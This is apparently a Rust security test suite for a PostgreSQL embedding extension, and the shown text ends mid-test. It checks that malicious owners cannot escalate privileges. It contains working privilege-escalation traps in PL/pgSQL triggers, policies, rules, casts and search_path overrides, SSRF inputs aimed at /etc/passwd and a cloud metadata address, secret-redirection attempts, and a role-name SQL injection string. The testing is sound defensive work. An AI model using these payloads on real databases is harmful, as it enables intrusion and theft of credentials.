//! Owners who want more than they were given: whatever their triggers, functions, policies and tables do when
//! the worker, an administrator or another owner comes by, it is done as themselves.
//!
//! Every trap leads to `m.strike`, which notes as whom it runs and tries to make mallory a superuser.

mod support;

use provider::Behaviour;
use support::lair::{LAIR, assert_only_mallory, by, lair, vectorize};
use support::{DEADLINE, Scene, wait_until};

/// Traps on a source {doc}, its destination {store}, its queue {queue} and its intake {intake}; the name of
/// the trap is {trap}.
const TRAPS: [(&str, &str); 15] = [
    (
        "other_role",
        "CREATE FUNCTION m.other_role() RETURNS trigger LANGUAGE plpgsql AS $$
         DECLARE
             attempt text;
         BEGIN
             FOREACH attempt IN ARRAY ARRAY['RESET ROLE', 'SET ROLE postgres', 'SET LOCAL ROLE postgres', 'SET ROLE ann',
                 'SET SESSION AUTHORIZATION postgres', 'RESET SESSION AUTHORIZATION', 'RESET ALL', 'DISCARD ALL',
                 'SET session_replication_role = replica', 'COMMIT', 'ROLLBACK'] LOOP
                 BEGIN
                     EXECUTE attempt;
                 EXCEPTION WHEN OTHERS THEN NULL;
                 END;
                 PERFORM m.strike(attempt);
             END LOOP;
             RETURN NEW;
         END $$;
         CREATE TRIGGER trap BEFORE INSERT ON {store} FOR EACH ROW EXECUTE FUNCTION m.other_role()",
    ),
    (
        "deferred",
        "CREATE CONSTRAINT TRIGGER trap AFTER INSERT ON {store} DEFERRABLE INITIALLY DEFERRED
             FOR EACH ROW EXECUTE FUNCTION m.spring('{trap}')",
    ),
    (
        "deferred_again",
        "CREATE TABLE m.more (x int);
         CREATE CONSTRAINT TRIGGER trap AFTER INSERT ON m.more DEFERRABLE INITIALLY DEFERRED
             FOR EACH ROW EXECUTE FUNCTION m.spring('{trap}');
         CREATE FUNCTION m.again() RETURNS trigger LANGUAGE plpgsql AS $$
         BEGIN
             SET CONSTRAINTS ALL DEFERRED;
             INSERT INTO m.more VALUES (1);
             RETURN NEW;
         END $$;
         CREATE CONSTRAINT TRIGGER trap AFTER INSERT ON {store} DEFERRABLE INITIALLY DEFERRED
             FOR EACH ROW EXECUTE FUNCTION m.again()",
    ),
    (
        "held_cursor",
        "CREATE FUNCTION m.hold() RETURNS trigger LANGUAGE plpgsql AS $$
         BEGIN
             EXECUTE 'DECLARE held CURSOR WITH HOLD FOR SELECT m.strike(''held_cursor'' || n) FROM generate_series(1, 3) AS n';
             RETURN NEW;
         END $$;
         CREATE TRIGGER trap BEFORE INSERT ON {store} FOR EACH ROW EXECUTE FUNCTION m.hold()",
    ),
    (
        "search_path",
        "CREATE FUNCTION m.now() RETURNS timestamptz LANGUAGE plpgsql AS $$
             BEGIN PERFORM m.strike('now'); RETURN pg_catalog.now(); END $$;
         CREATE FUNCTION m.md5(text) RETURNS text LANGUAGE plpgsql AS $$
             BEGIN PERFORM m.strike('md5'); RETURN pg_catalog.md5($1); END $$;
         CREATE FUNCTION m.is_it(int, int) RETURNS bool LANGUAGE plpgsql AS $$
             BEGIN PERFORM m.strike('='); RETURN $1 OPERATOR(pg_catalog.=) $2; END $$;
         CREATE OPERATOR m.= (LEFTARG = int, RIGHTARG = int, FUNCTION = m.is_it);
         CREATE FUNCTION m.lead() RETURNS trigger LANGUAGE plpgsql AS $$
         BEGIN
             PERFORM pg_catalog.set_config('search_path', 'm, pg_catalog', false);
             PERFORM pg_catalog.set_config('default_transaction_read_only', 'on', false);
             PERFORM pg_catalog.set_config('statement_timeout', '1', false);
             RETURN NEW;
         END $$;
         CREATE TRIGGER trap BEFORE INSERT ON {store} FOR EACH ROW EXECUTE FUNCTION m.lead()",
    ),
    (
        "temporary",
        "CREATE FUNCTION m.litter() RETURNS trigger LANGUAGE plpgsql AS $$
         BEGIN
             CREATE TEMP TABLE IF NOT EXISTS audit (what text);
             GRANT ALL ON audit TO PUBLIC;
             DROP TRIGGER IF EXISTS trap ON audit;
             CREATE TRIGGER trap BEFORE INSERT ON audit FOR EACH ROW EXECUTE FUNCTION m.spring('temporary');
             RETURN NEW;
         END $$;
         CREATE TRIGGER trap BEFORE INSERT ON {store} FOR EACH ROW EXECUTE FUNCTION m.litter()",
    ),
    (
        "policy",
        "ALTER TABLE {doc} ENABLE ROW LEVEL SECURITY;
         ALTER TABLE {doc} FORCE ROW LEVEL SECURITY;
         CREATE POLICY trap ON {doc} USING (m.strike('{trap}'))",
    ),
    (
        "default",
        "CREATE FUNCTION m.uuid() RETURNS uuid LANGUAGE plpgsql AS $$
             BEGIN PERFORM m.strike('default'); RETURN gen_random_uuid(); END $$;
         ALTER TABLE {store} ALTER embedding_uuid SET DEFAULT m.uuid()",
    ),
    (
        "generated",
        "ALTER TABLE {store} ADD trap bool GENERATED ALWAYS AS (m.strike('{trap}' || chunk_seq)) STORED",
    ),
    ("index", "CREATE INDEX ON {store} ((m.strike('{trap}' || chunk_seq)))"),
    (
        "domain",
        "CREATE DOMAIN m.trap AS text CHECK (m.strike('{trap}' || VALUE));
         ALTER TABLE {store} ADD trap m.trap DEFAULT 'x'",
    ),
    (
        "cast",
        "SELECT ai.drop_vectorizer('{trap}', drop_all => true);
         DROP TABLE {doc};
         CREATE TYPE m.kind AS ENUM ('n1', 'n2', 'n3');
         CREATE FUNCTION m.kind_of(int) RETURNS m.kind LANGUAGE sql AS $$ SELECT ('n' || $1)::m.kind $$;
         CREATE CAST (int AS m.kind) WITH FUNCTION m.kind_of(int) AS ASSIGNMENT;
         CREATE FUNCTION m.kind_as_json(m.kind) RETURNS json LANGUAGE plpgsql AS $$
             BEGIN PERFORM m.strike('{trap} to json'); RETURN pg_catalog.to_json(enum_out($1)::text); END $$;
         CREATE CAST (m.kind AS json) WITH FUNCTION m.kind_as_json(m.kind);
         CREATE FUNCTION m.kind_as_text(m.kind) RETURNS text LANGUAGE plpgsql AS $$
             BEGIN PERFORM m.strike('{trap} to text'); RETURN enum_out($1)::text; END $$;
         CREATE CAST (m.kind AS text) WITH FUNCTION m.kind_as_text(m.kind);
         CREATE FUNCTION m.same_kind(m.kind, m.kind) RETURNS bool LANGUAGE plpgsql AS $$
             BEGIN PERFORM m.strike('{trap} ='); RETURN enum_eq($1, $2); END $$;
         CREATE OPERATOR m.= (LEFTARG = m.kind, RIGHTARG = m.kind, FUNCTION = m.same_kind);
         CREATE TABLE {doc} (id m.kind PRIMARY KEY, body text, more m.kind DEFAULT 'n3');
         SELECT ai.create_vectorizer('{doc}', name => '{trap}', loading => ai.loading_column('body'),
             formatting => ai.formatting_python_template('$chunk $more'),
             embedding => ai.embedding_openai('text-embedding-3-small', 4))",
    ),
    ("rule", "CREATE RULE trap AS ON INSERT TO {store} DO ALSO SELECT m.strike('{trap}')"),
    (
        "queue",
        "CREATE TRIGGER trap BEFORE UPDATE OR DELETE ON {queue} FOR EACH ROW EXECUTE FUNCTION m.spring('{trap}');
         CREATE CONSTRAINT TRIGGER late AFTER UPDATE OR DELETE ON {queue} DEFERRABLE INITIALLY DEFERRED
             FOR EACH ROW EXECUTE FUNCTION m.spring('{trap}')",
    ),
    (
        "intake",
        "CREATE TRIGGER trap BEFORE INSERT OR DELETE ON {intake} FOR EACH ROW EXECUTE FUNCTION m.spring('{trap}');
         CREATE CONSTRAINT TRIGGER late AFTER DELETE ON {intake} DEFERRABLE INITIALLY DEFERRED
             FOR EACH ROW EXECUTE FUNCTION m.spring('{trap}')",
    ),
];

#[test]
fn what_owners_left_in_the_way_runs_as_themselves() {
    let scene = lair();
    // Somebody else, whose triggers say what they need without a schema.
    vectorize(&scene, "ann", "a", "honest");
    by(
        &scene,
        "ann",
        "CREATE FUNCTION a.audit() RETURNS trigger LANGUAGE plpgsql AS $$
         BEGIN
             BEGIN
                 INSERT INTO audit VALUES ('seen');
             EXCEPTION WHEN undefined_table THEN NULL;
             END;
             RETURN NEW;
         END $$;
         CREATE TRIGGER audit BEFORE INSERT ON a.honest_embedding_store FOR EACH ROW EXECUTE FUNCTION a.audit()",
    );
    for (number, (trap, sql)) in TRAPS.into_iter().enumerate() {
        vectorize(&scene, "mallory", "m", trap);
        let queue = format!("SELECT queue_schema || '.' || queue_table FROM ai.vectorizer WHERE name = '{trap}'");
        let intake = format!("SELECT intake FROM ai._vectorizer WHERE name = '{trap}'");
        let sql = sql
            .replace("{doc}", &format!("m.{trap}"))
            .replace("{store}", &format!("m.{trap}_embedding_store"))
            .replace("{queue}", &scene.cluster.value(&queue))
            .replace("{intake}", &scene.cluster.value(&intake))
            .replace("{trap}", trap);
        by(&scene, "mallory", &sql);
        // One that succeeds, one that fails, and one more; then a round for the honest.
        scene.provider.behave(Behaviour::RejectInput("poison".to_owned()));
        for row in ["(1, 'one')", "(2, 'poison')", "(3, 'three')"] {
            by(&scene, "mallory", &format!("INSERT INTO m.{trap} VALUES {row}"));
            let settled = format!(
                "SELECT (ai.vectorizer_queue_pending('{trap}') = 0
                         OR EXISTS (SELECT FROM ai.vectorizer_errors WHERE name = '{trap}'))::text"
            );
            scene.cluster.wait_for(trap, &settled, "true");
        }
        scene.provider.behave(Behaviour::Well);
        by(
            &scene,
            "ann",
            &format!("INSERT INTO a.honest VALUES ({number}, 'fine')"),
        );
        let honest = format!("SELECT count(*) FROM a.honest_embedding_store WHERE id = {number}");
        scene
            .cluster
            .wait_for(&format!("the honest work on after {trap}"), &honest, "1");
    }
    assert_only_mallory(&scene, "all traps");
    // They were sprung at all.
    let sprung = scene.cluster.column("SELECT DISTINCT trap FROM m.struck ORDER BY 1");
    for trap in [
        "RESET ROLE",
        "deferred",
        "deferred_again",
        "policy",
        "default",
        "generated0",
        "cast to json",
        "rule",
        "queue",
        "intake",
    ] {
        assert!(
            sprung.iter().any(|seen| seen == trap),
            "{trap} was not sprung: {sprung:?}"
        );
    }
}

/// Whoever looks at the views, as whom the worker does not come by.
#[test]
fn a_look_at_the_views_runs_nothing_of_an_owner() {
    let scene = lair();
    vectorize(&scene, "mallory", "m", "doc");
    scene.cluster.execute("ALTER SYSTEM SET ai.max_workers = 0");
    scene.cluster.reload();
    by(&scene, "mallory", "INSERT INTO m.doc VALUES (1, 'one')");
    // Policies of a queue run as whoever reads it; mallory lets everybody.
    by(
        &scene,
        "mallory",
        "GRANT ALL ON ai._vectorizer_q_1, ai._vectorizer_q_failed_1, m.doc TO PUBLIC;
         ALTER TABLE ai._vectorizer_q_1 ENABLE ROW LEVEL SECURITY;
         CREATE POLICY trap ON ai._vectorizer_q_1 USING (m.strike('policy of the queue'));
         ALTER TABLE ai._vectorizer_q_failed_1 ENABLE ROW LEVEL SECURITY;
         CREATE POLICY trap ON ai._vectorizer_q_failed_1 USING (m.strike('policy of the failed queue'));
         ALTER TABLE m.doc ENABLE ROW LEVEL SECURITY;
         CREATE POLICY trap ON m.doc USING (m.strike('policy of the source'))",
    );
    let looks = [
        "SELECT count(*) FROM ai.vectorizer",
        "SELECT count(*) FROM ai.vectorizer_status",
        "SELECT count(*) FROM ai.vectorizer_errors",
        "SELECT count(*) FROM ai.vectorizer_failed",
        "SELECT count(*) FROM ai.worker_status",
        "SELECT ai.vectorizer_queue_pending(1), ai.vectorizer_queue_pending('doc', true)",
        "SELECT ai.wait_for_vectorizer('doc', '1 ms')",
    ];
    for who in ["victim", "ann", "postgres"] {
        for look in looks {
            scene.cluster.execute(&format!(
                "SET ROLE {who}; SET client_min_messages = error; {look}; RESET ALL; RESET ROLE"
            ));
        }
    }
    assert_only_mallory(&scene, "looks at her queue");
    // An empty table could become a view until Postgres 15, and a view runs as whoever reads it.
    let conversion = "SET SESSION AUTHORIZATION mallory;
        ALTER TABLE ai._vectorizer_q_1 DISABLE ROW LEVEL SECURITY; DROP POLICY trap ON ai._vectorizer_q_1;
        DELETE FROM ai._vectorizer_q_1;
        DO $$
        DECLARE
            part text;
        BEGIN
            FOR part IN SELECT format('ALTER TABLE ai._vectorizer_q_1 DROP CONSTRAINT %I CASCADE', conname) FROM pg_constraint
                        WHERE conrelid = 'ai._vectorizer_q_1'::regclass LOOP
                EXECUTE part;
            END LOOP;
            FOR part IN SELECT format('DROP INDEX %s', indexrelid::regclass) FROM pg_index
                        WHERE indrelid = 'ai._vectorizer_q_1'::regclass LOOP
                EXECUTE part;
            END LOOP;
            EXECUTE (SELECT format('CREATE RULE \"_RETURN\" AS ON SELECT TO ai._vectorizer_q_1 DO INSTEAD SELECT %s FROM m.bait',
                         string_agg(format('bait.%I', attname), ', ' ORDER BY attnum))
                     FROM pg_attribute WHERE attrelid = 'ai._vectorizer_q_1'::regclass AND attnum > 0);
        END $$;";
    by(
        &scene,
        "mallory",
        "CREATE VIEW m.bait AS SELECT q.* FROM ai._vectorizer_q_1 q WHERE m.strike('view')",
    );
    let converted = scene.cluster.try_rows(conversion);
    println!("the queue became a view: {}", converted.is_ok());
    scene.cluster.execute("RESET SESSION AUTHORIZATION");
    for look in looks {
        // It may fail, for whatever reason there is.
        let _ = scene.cluster.try_rows(look);
    }
    assert_only_mallory(&scene, "looks at her view");
}

/// What takes more than owning a table is denied.
#[test]
fn forgeries_are_denied() {
    let scene = lair();
    vectorize(&scene, "ann", "a", "honest");
    vectorize(&scene, "mallory", "m", "doc");
    scene.cluster.execute(
        "CREATE SERVER given TYPE 'openai' FOREIGN DATA WRAPPER ai_provider OPTIONS (api_key 'env:OPENAI_API_KEY');
         GRANT USAGE ON FOREIGN DATA WRAPPER ai_provider TO mallory; ALTER SERVER given OWNER TO mallory",
    );
    for sql in [
        "UPDATE ai._vectorizer SET source = 'a.honest'::regclass WHERE name = 'doc'",
        "UPDATE ai.vectorizer SET config = '{}'",
        "INSERT INTO ai._vectorizer (name, source, source_pk, queue, queue_failed, trigger_function, trigger_name, config)
             SELECT 'forged', 'a.honest', source_pk, queue, queue_failed, trigger_function, trigger_name, config FROM ai._vectorizer",
        "DELETE FROM ai._vectorizer_state",
        "INSERT INTO ai._vectorizer_stash VALUES (1, 1, '', '')",
        "INSERT INTO ai._vectorizer_document VALUES (1, '{}', '', '', '', 1)",
        "SELECT config FROM ai._vectorizer",
        "INSERT INTO ai._vectorizer_q_1 (id) VALUES (1)",
        "UPDATE ai._vectorizer_q_1 SET lease = 1, lease_expires_at = now() + interval '1 year'",
        "SELECT * FROM a.honest_embedding_store",
        "SELECT ai._refresh_triggers()",
        "SELECT ai._stop_indexer(1)",
        "SELECT ai.voyageai_embed('m', 'text')",
        "SELECT ai.openai_embed('m', 'text', api_key_name => 'AWS_SECRET_ACCESS_KEY')",
        "SELECT ai.grant_vectorizer_usage('mallory')",
        "CREATE EVENT TRIGGER trap ON ddl_command_end EXECUTE FUNCTION m.trap()",
        "CREATE FUNCTION ai.now() RETURNS timestamptz RETURN pg_catalog.now()",
        "CREATE OR REPLACE FUNCTION ai._wake_worker() RETURNS void LANGUAGE sql AS ''",
        "ALTER TABLE m.doc OWNER TO ann",
        "SET ai.allow_http = on",
        "SET ai.openai_base_url = 'http://example.com'",
        "CREATE SERVER hers TYPE 'openai' FOREIGN DATA WRAPPER ai_provider
             OPTIONS (base_url 'http://example.com', api_key 'env:AWS_SECRET_ACCESS_KEY')",
        "ALTER SERVER ai_openai OPTIONS (ADD base_url 'http://example.com')",
        "ALTER SERVER ai_openai OWNER TO mallory",
        "ALTER FOREIGN DATA WRAPPER ai_provider NO VALIDATOR",
        // Servers of others; and of her own, which she was given with its options and may not give others.
        "CREATE USER MAPPING FOR mallory SERVER ai_openai OPTIONS (api_key 'env:AWS_SECRET_ACCESS_KEY')",
        "CREATE USER MAPPING FOR mallory SERVER given OPTIONS (api_key 'env:AWS_SECRET_ACCESS_KEY')",
        "ALTER SERVER given OPTIONS (ADD base_url 'http://example.com')",
        "ALTER SERVER given OPTIONS (DROP api_key)",
        "SELECT umoptions FROM pg_user_mapping",
        "SELECT ai._servers_changed('{}', '{}')",
        "SELECT ai.create_vectorizer('m.doc', name => 'second', loading => ai.loading_column('body'),
             embedding => ai.embedding_voyageai('voyage-3', 4))",
    ] {
        let statement = format!("SET SESSION AUTHORIZATION mallory; {sql}");
        let (code, said) = match scene.cluster.try_rows(&statement) {
            Ok(rows) => panic!("{sql} succeeds: {rows:?}"),
            Err(error) => error.as_db_error().map_or_else(
                || panic!("{sql}: {error}"),
                |said| (said.code().code().to_owned(), said.message().to_owned()),
            ),
        };
        // A role cannot give away what is another's, and a view that is not simple is no table.
        assert!(["42501", "55000"].contains(&code.as_str()), "{sql}: {code} {said}");
    }
    for sql in [
        "SELECT ai.drop_vectorizer(1)",
        "SELECT * FROM ai.verify_vectorizer('honest')",
        "SELECT ai.retry_vectorizer(1)",
    ] {
        let (code, _) = scene
            .cluster
            .refusal(&format!("SET SESSION AUTHORIZATION mallory; {sql}"));
        assert_eq!(code, "42704", "{sql}: for her there is no such vectorizer");
    }
}

/// Her own queue is hers: forged rows and leases there keep her own documents waiting, and nobody else's.
#[test]
fn forged_rows_and_leases_harm_their_forger() {
    let scene = lair();
    vectorize(&scene, "ann", "a", "honest");
    vectorize(&scene, "mallory", "m", "doc");
    by(
        &scene,
        "mallory",
        "INSERT INTO ai._vectorizer_q_2 (id, lease, lease_taken_at, lease_expires_at, attempts, version)
             SELECT n, 9223372036854775807, 'infinity', 'infinity', 2147483647, 2147483647 FROM generate_series(-100, -1) n;
         INSERT INTO ai._vectorizer_q_2 (id, attempts, crashes) SELECT n, 2147483640, 2 FROM generate_series(1000, 1100) n",
    );
    for id in 1..=3 {
        by(
            &scene,
            "ann",
            &format!("INSERT INTO a.honest VALUES ({id}, 'text {id}')"),
        );
    }
    let embedded = "SELECT count(*) FROM a.honest_embedding_store";
    scene.cluster.wait_for("the honest is served", embedded, "3");
    by(
        &scene,
        "mallory",
        "DELETE FROM ai._vectorizer_q_2; INSERT INTO m.doc VALUES (1, 'hers')",
    );
    let embedded = "SELECT count(*) FROM m.doc_embedding_store";
    scene.cluster.wait_for("and so is she, when she stops", embedded, "1");
    assert_only_mallory(&scene, "forgery");
}

/// What the owner may not do any more, the worker does not; whoever gets the table gets the work.
#[test]
fn privileges_and_owners_are_followed() {
    let scene = lair();
    vectorize(&scene, "mallory", "m", "doc");
    by(
        &scene,
        "mallory",
        "REVOKE SELECT ON m.doc FROM mallory; INSERT INTO m.doc VALUES (1, 'one')",
    );
    let reason = || {
        scene
            .cluster
            .value("SELECT coalesce(reason, '') FROM ai.worker_status WHERE vectorizer = 'doc'")
    };
    wait_until("it is paused with the reason", DEADLINE, reason, |reason| {
        reason.contains("permission denied for table doc")
    });
    by(&scene, "mallory", "GRANT SELECT ON m.doc TO mallory");
    let embedded = "SELECT count(*) FROM m.doc_embedding_store";
    scene.cluster.wait_for("giving it back resumes", embedded, "1");

    scene
        .cluster
        .execute("GRANT CREATE, USAGE ON SCHEMA m TO ann; ALTER TABLE m.doc OWNER TO ann");
    by(&scene, "ann", "INSERT INTO m.doc VALUES (2, 'two')");
    scene.cluster.wait_for("the new owner is served", embedded, "2");
    let owners = "SELECT DISTINCT pg_get_userbyid(c.relowner) FROM ai._vectorizer v
        JOIN pg_class c ON c.oid IN (v.source, v.target, v.view, v.queue, v.queue_failed, v.intake)";
    assert_eq!(scene.cluster.column(owners), ["ann"]);
    let (code, _) = scene
        .cluster
        .refusal("SET SESSION AUTHORIZATION mallory; SELECT * FROM m.doc_embedding_store");
    assert_eq!(code, "42501");
    let (code, _) = scene
        .cluster
        .refusal("SET SESSION AUTHORIZATION mallory; SELECT ai.drop_vectorizer('doc')");
    assert_eq!(code, "42704");
}

/// Who was in the database before the extension.
#[test]
fn an_install_runs_nothing_that_was_there_before() {
    let scene = Scene::start();
    scene.cluster.execute("DROP EXTENSION ai; DROP EXTENSION vector");
    scene.cluster.execute("GRANT CREATE ON SCHEMA public TO PUBLIC");
    scene.cluster.execute(LAIR);
    by(
        &scene,
        "mallory",
        "CREATE FUNCTION public.same(oid, oid) RETURNS bool LANGUAGE plpgsql AS $$
             BEGIN PERFORM m.strike('= of oid'); RETURN $1 OPERATOR(pg_catalog.=) $2; END $$;
         CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = oid, FUNCTION = public.same);
         CREATE FUNCTION public.same(regclass, oid) RETURNS bool LANGUAGE plpgsql AS $$
             BEGIN PERFORM m.strike('= of regclass'); RETURN $1::oid OPERATOR(pg_catalog.=) $2; END $$;
         CREATE OPERATOR public.= (LEFTARG = regclass, RIGHTARG = oid, FUNCTION = public.same);
         CREATE FUNCTION public.same(name, text) RETURNS bool LANGUAGE plpgsql AS $$
             BEGIN PERFORM m.strike('= of name'); RETURN true; END $$;
         CREATE OPERATOR public.= (LEFTARG = name, RIGHTARG = text, FUNCTION = public.same);
         CREATE OPERATOR public.~ (LEFTARG = name, RIGHTARG = text, FUNCTION = public.same);
         CREATE FUNCTION public.has_table_privilege(regclass, text) RETURNS bool LANGUAGE plpgsql AS $$
             BEGIN PERFORM m.strike('has_table_privilege'); RETURN true; END $$;
         CREATE TYPE public.jsonb AS (x int);
         CREATE TABLE public.pg_class (x int)",
    );
    scene
        .cluster
        .execute("SET search_path = public, m; CREATE EXTENSION ai CASCADE; RESET search_path");
    scene
        .cluster
        .execute("GRANT USAGE ON FOREIGN SERVER ai_openai TO mallory");
    vectorize(&scene, "mallory", "m", "doc");
    by(&scene, "mallory", "INSERT INTO m.doc VALUES (1, 'one')");
    scene
        .cluster
        .wait_for("it works", "SELECT count(*) FROM m.doc_embedding_store", "1");
    for view in [
        "vectorizer",
        "vectorizer_status",
        "vectorizer_errors",
        "vectorizer_failed",
        "worker_status",
    ] {
        scene.cluster.execute(&format!(
            "SET search_path = public; SELECT * FROM ai.{view}; RESET search_path"
        ));
    }
    assert_only_mallory(&scene, "the install");
    assert_eq!(scene.cluster.value("SELECT count(*) FROM m.struck"), "0");
}

/// The weaknesses of pgai that are known, each tried here. (E10: its parsers ran beside its secrets; ours is
/// a process of its own, see `pipeline/tests/parse_child.rs`.)
#[test]
fn the_known_weaknesses_of_pgai_are_none_here() {
    let scene = lair();
    let cluster = &scene.cluster;
    vectorize(&scene, "ann", "a", "honest");
    let denied = |sql: &str| {
        let (code, said) = cluster.refusal(&format!("SET SESSION AUTHORIZATION mallory; {sql}"));
        assert_eq!(code, "42501", "{sql}: {said}");
    };
    // E1, E8: whoever was granted usage re-pointed rows, or made them up.
    cluster.execute("SELECT ai.grant_vectorizer_usage('mallory', admin => true)");
    denied("UPDATE ai.vectorizer SET source_table = 'honest'");
    denied("UPDATE ai._vectorizer SET source = 'a.honest'");
    denied("INSERT INTO ai._vectorizer SELECT * FROM ai._vectorizer");
    denied("INSERT INTO ai._vectorizer_q_1 (id) VALUES (1)");
    denied("CREATE TABLE ai.planted ()");
    denied("SELECT ai.drop_vectorizer(1)");
    // E2: whoever wrote a URI had the worker read files and inner addresses.
    by(
        &scene,
        "mallory",
        "CREATE TABLE m.doc (id int PRIMARY KEY, uri text);
         SELECT ai.create_vectorizer('m.doc', name => 'doc', loading => ai.loading_uri('uri'),
             embedding => ai.embedding_openai('text-embedding-3-small', 4))",
    );
    let inner = scene.s3.url();
    let addresses = [
        "file:///etc/passwd",
        "/etc/passwd",
        "http://169.254.169.254/latest/meta-data/",
        &inner,
    ];
    for (id, address) in addresses.iter().enumerate() {
        by(
            &scene,
            "mallory",
            &format!("INSERT INTO m.doc VALUES ({id}, '{address}')"),
        );
    }
    let refused = "SELECT count(*) FROM ai.vectorizer_failed WHERE name = 'doc' AND reason LIKE '%not allowed%'";
    cluster.wait_for("none is read", refused, "4");
    assert_eq!(cluster.value("SELECT count(*) FROM m.doc_embedding_store"), "0");
    assert_eq!(scene.s3.requests().len(), 0);
    // E3, E4: whoever made a vectorizer chose the secret, the address that it was sent to, and the role.
    by(&scene, "mallory", "CREATE TABLE m.more (id int PRIMARY KEY, uri text)");
    let make = |loading: &str, embedding: &str| {
        format!(
            "SELECT ai.create_vectorizer('m.more', loading => ai.loading_uri('uri'{loading}), embedding => {embedding})"
        )
    };
    denied(&make(
        "",
        "ai.embedding_openai('m', 4, api_key_name => 'AWS_SECRET_ACCESS_KEY')",
    ));
    denied(&make(
        "",
        "ai.embedding_openai('m', 4, base_url => 'http://example.com/v1')",
    ));
    let role = ", aws_role_arn => 'arn:aws:iam::123456789012:role/admin'";
    denied(&make(role, "ai.embedding_openai('m', 4)"));
    // E5: the worker read what the owner of the vectorizer may not.
    cluster.execute("CREATE TABLE a.secret (id int PRIMARY KEY, body text); GRANT ALL ON a.secret TO mallory");
    denied(
        "SELECT ai.create_vectorizer('a.secret', loading => ai.loading_column('body'), embedding => ai.embedding_openai('m', 4))",
    );
    // E6: the grants of the documentation were not enough, so people made the worker's role a superuser. There is none.
    // E7: a role's name was a part of the statement.
    let name = "x; ALTER ROLE mallory SUPERUSER; --";
    cluster.execute(&format!(
        "CREATE ROLE \"{name}\"; SELECT ai.grant_vectorizer_usage('{name}')"
    ));
    // E9: credentials stood in configurations that everybody could read.
    let keyed = "ai.embedding_litellm('openai/m', 4, extra_options => '{\"api_key\": \"sk-1\"}')";
    let (code, said) = cluster.refusal(&make("", keyed).replace("m.more", "m.doc"));
    assert_eq!(
        (code.as_str(), said.contains("must not hold credentials")),
        ("22023", true),
        "{said}"
    );
    assert_eq!(
        cluster.value("SET ROLE victim; SELECT count(*) FROM ai.vectorizer; RESET ROLE"),
        "0"
    );
    assert_only_mallory(&scene, "all of them");
}

/// A prepared statement belongs to the session, which the worker's is for all owners.
#[test]
fn statements_that_an_owner_prepares_in_the_worker_go_with_him() {
    let scene = Scene::start_with(|options| options.setting("ai.idle_timeout", "1h"));
    scene.cluster.execute(LAIR);
    vectorize(&scene, "mallory", "m", "doc");
    vectorize(&scene, "ann", "a", "honest");
    // Whichever comes first finds what was left, and leaves some; one that fails does, too.
    by(
        &scene,
        "mallory",
        "CREATE TABLE m.found (name text);
         GRANT INSERT ON m.found TO PUBLIC;
         CREATE FUNCTION m.prepare() RETURNS trigger LANGUAGE plpgsql AS $$
         BEGIN
             INSERT INTO m.found SELECT name FROM pg_prepared_statements;
             EXECUTE format('PREPARE %I AS SELECT 1', 'left by ' || NEW.chunk);
             IF NEW.chunk = 'refused' THEN
                 RAISE EXCEPTION 'no';
             END IF;
             RETURN NEW;
         END $$;
         GRANT EXECUTE ON FUNCTION m.prepare() TO PUBLIC;
         CREATE TRIGGER trap BEFORE INSERT ON m.doc_embedding_store FOR EACH ROW EXECUTE FUNCTION m.prepare()",
    );
    // One of mallory's would stop the vectorizer of ann.
    scene.cluster.execute("ALTER FUNCTION m.prepare() OWNER TO postgres");
    by(
        &scene,
        "ann",
        "CREATE TRIGGER look BEFORE INSERT ON a.honest_embedding_store FOR EACH ROW EXECUTE FUNCTION m.prepare()",
    );
    by(&scene, "mallory", "INSERT INTO m.doc VALUES (1, 'one')");
    scene
        .cluster
        .wait_for("embedded", "SELECT count(*) FROM m.doc_embedding_store", "1");
    by(&scene, "mallory", "INSERT INTO m.doc VALUES (2, 'refused')");
    let refused = "SELECT count(*) FROM ai.vectorizer_errors WHERE name = 'doc'";
    scene.cluster.wait_for("refused", refused, "1");
    let worker = scene.cluster.wait_for_worker();
    by(&scene, "ann", "INSERT INTO a.honest VALUES (1, 'fine')");
    scene
        .cluster
        .wait_for("embedded", "SELECT count(*) FROM a.honest_embedding_store", "1");
    assert_eq!(scene.cluster.worker(), Some(worker), "one process did it all");
    assert_eq!(scene.cluster.column("SELECT DISTINCT name FROM m.found"), [""; 0]);
}

/// Code that asks who has logged in is told its owner, and cannot change that.
#[test]
fn the_session_of_owners_code_is_the_owners() {
    let scene = Scene::start_with(|options| options.setting("ai.idle_timeout", "1h"));
    scene.cluster.execute(LAIR);
    vectorize(&scene, "mallory", "m", "doc");
    vectorize(&scene, "ann", "a", "honest");
    by(
        &scene,
        "mallory",
        "CREATE TABLE m.found (who text);
         GRANT INSERT ON m.found TO PUBLIC;
         CREATE FUNCTION m.ask() RETURNS trigger LANGUAGE plpgsql AS $$
         DECLARE
             change text;
         BEGIN
             FOREACH change IN ARRAY ARRAY['RESET SESSION AUTHORIZATION', 'SET SESSION AUTHORIZATION postgres', 'RESET ROLE',
                                           'SET ROLE postgres', 'SET LOCAL SESSION AUTHORIZATION postgres'] LOOP
                 BEGIN
                     EXECUTE change;
                 EXCEPTION WHEN OTHERS THEN NULL;
                 END;
             END LOOP;
             INSERT INTO m.found VALUES (session_user || ' ' || current_user || ' ' || current_setting('is_superuser'));
             PERFORM m.strike('session');
             IF NEW.chunk = 'refused' THEN
                 RAISE EXCEPTION 'no';
             END IF;
             RETURN NEW;
         END $$;
         GRANT EXECUTE ON FUNCTION m.ask() TO PUBLIC;
         CREATE TRIGGER trap BEFORE INSERT ON m.doc_embedding_store FOR EACH ROW EXECUTE FUNCTION m.ask();
         INSERT INTO m.doc VALUES (1, 'one')",
    );
    // One of mallory's would stop the vectorizer of ann.
    scene.cluster.execute("ALTER FUNCTION m.ask() OWNER TO postgres");
    by(
        &scene,
        "ann",
        "CREATE TRIGGER look BEFORE INSERT ON a.honest_embedding_store FOR EACH ROW EXECUTE FUNCTION m.ask()",
    );
    scene
        .cluster
        .wait_for("embedded", "SELECT count(*) FROM m.doc_embedding_store", "1");
    let worker = scene.cluster.wait_for_worker();
    by(&scene, "mallory", "INSERT INTO m.doc VALUES (2, 'refused')");
    let refused = "SELECT count(*) FROM ai.vectorizer_errors WHERE name = 'doc'";
    scene.cluster.wait_for("refused", refused, "1");
    by(&scene, "ann", "INSERT INTO a.honest VALUES (1, 'fine')");
    scene
        .cluster
        .wait_for("embedded", "SELECT count(*) FROM a.honest_embedding_store", "1");
    assert_eq!(scene.cluster.worker(), Some(worker), "one process did it all");
    let found = "SELECT DISTINCT who FROM m.found ORDER BY 1";
    assert_eq!(scene.cluster.column(found), ["ann ann off", "mallory mallory off"]);
    let superuser = "SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'";
